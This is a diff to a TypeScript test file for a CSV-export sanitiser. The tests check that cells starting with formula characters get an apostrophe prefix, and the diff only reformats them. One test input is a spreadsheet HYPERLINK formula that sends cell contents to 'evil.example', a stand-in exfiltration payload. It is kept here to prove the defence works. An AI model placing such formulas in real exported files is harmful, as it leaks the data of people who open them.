@@ -8,7 +8,7 @@ import { csvCell, neutralizeCsvText } from "../../worker/http/csv-cell.ts";
 
 describe("csvCell", () => {
   it.each([
-    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"],
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
     ["+1+1", "'+1+1"],
     ["-2+3", "'-2+3"],
     ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
@@ -49,13 +49,21 @@ describe("csvCell", () => {
 
 describe("the dashboard's CSV downloads (client/src/lib/csv.ts)", () => {
   it("neutralises text and quotes it when needed, keeps negative numbers, round-trips through the parser", () => {
-    const rows = [["=HYPERLINK(\"x\",\"y\")", -0.5], ["@SUM(A1)", 2], ["-2+3", null], ["\r+1", -3]] as const;
+    const rows = [
+      ['=HYPERLINK("x","y")', -0.5],
+      ["@SUM(A1)", 2],
+      ["-2+3", null],
+      ["\r+1", -3],
+    ] as const;
     const text = buildCsv(["label", "value"], rows);
     expect(text).toBe(`label,value\r\n"'=HYPERLINK(""x"",""y"")",-0.5\r\n'@SUM(A1),2\r\n'-2+3,\r\n"'\r+1",-3\r\n`);
     const { records, errors } = parseCsv(text);
     expect(errors).toEqual([]);
     expect(records.slice(1).map((record) => record.fields)).toEqual([
-      ["'=HYPERLINK(\"x\",\"y\")", "-0.5"], ["'@SUM(A1)", "2"], ["'-2+3", ""], ["'\r+1", "-3"],
+      ['\'=HYPERLINK("x","y")', "-0.5"],
+      ["'@SUM(A1)", "2"],
+      ["'-2+3", ""],
+      ["'\r+1", "-3"],
     ]);
   });
 
